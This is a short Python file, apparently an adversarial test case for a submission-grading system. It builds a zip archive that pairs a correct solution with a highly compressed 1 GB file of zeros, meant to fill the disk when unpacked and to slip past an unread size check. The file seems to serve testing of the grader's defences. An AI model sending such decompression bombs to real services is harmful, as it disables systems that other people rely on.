# /// attack
# does = "is a .zip of 1 MB with a right solution and a file of 1 GB"
# own = {}
# builds = true
# ///
"""Unpacked it would fill the disk. What says that it is larger than a submission may be is left out unread."""

import zipfile


def build(folder, right):
    path = folder / "alice.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("mlp.py", right)
        with made.open("zeros.bin", "w", force_zip64=True) as member:
            for _ in range(256):
                member.write(bytes(4 << 20))
    return path
